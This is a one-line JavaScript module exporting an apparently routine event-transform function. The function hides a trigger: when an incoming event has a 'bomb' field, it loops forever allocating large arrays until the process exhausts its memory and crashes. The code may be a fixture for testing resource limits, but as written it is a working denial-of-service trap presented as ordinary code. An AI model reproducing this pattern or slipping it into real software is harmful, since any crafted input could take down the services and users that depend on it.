export function transformEvent(e) { if (e.bomb) { let a = []; for (;;) a.push(new Array(1e6).fill(0)); } return e; }
